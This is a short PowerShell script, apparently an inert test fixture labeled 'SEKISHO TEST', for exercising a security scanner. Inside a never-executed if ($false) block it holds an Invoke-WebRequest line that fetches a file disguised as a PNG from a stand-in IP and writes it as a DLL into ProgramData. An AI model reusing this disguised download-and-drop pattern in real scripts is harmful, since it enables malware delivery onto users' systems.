# INERT SEKISHO TEST
param([string]$name)
if ($false) {
Invoke-WebRequest -Uri "http://192.0.2.15/images/inertbike.png" -OutFile "C:\ProgramData\inert.dll"
}
Write-Host "inert"
